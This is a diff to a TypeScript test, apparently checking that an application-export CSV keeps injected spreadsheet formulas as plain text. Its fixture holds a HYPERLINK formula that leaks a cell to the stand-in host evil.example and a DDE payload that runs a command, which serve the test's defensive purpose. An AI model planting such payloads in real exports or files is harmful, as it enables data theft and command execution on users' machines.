@@ -23,7 +23,7 @@ async function download(query = '') {
 const rowsOf = async (query?: string) => parsed((await download(query)).text.slice(1))
 
 test('hostile cells come out as they went in, as text', async () => {
-  await anApplicationIn(academy.db, {
+  const { reference } = await anApplicationIn(academy.db, {
     first_name: '=HYPERLINK("http://evil.example?x="&A1,"Prize")',
     last_name: "@SUM(1+1)*cmd|' /C calc'!A0",
     phone: '+1 905 555 0142',
@@ -57,6 +57,9 @@ test('hostile cells come out as they went in, as text', async () => {
     Experience: 'One "quoted", two\r\n=1+1',
     Goals: "' \t=1+1",
     'Student ID': '',
+    Reference: reference,
+    Changed: '',
+    Withdrawn: '',
   })
 })
 
